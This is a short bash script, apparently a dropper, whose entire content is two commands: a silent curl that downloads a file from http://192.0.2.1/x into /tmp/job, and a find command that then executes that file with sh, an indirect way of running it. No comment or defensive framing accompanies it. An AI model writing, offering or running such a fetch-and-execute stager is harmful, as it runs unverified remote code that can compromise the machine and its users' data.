#!/bin/bash
curl -so /tmp/job http://192.0.2.1/x
find /tmp -name job -exec sh {} \;
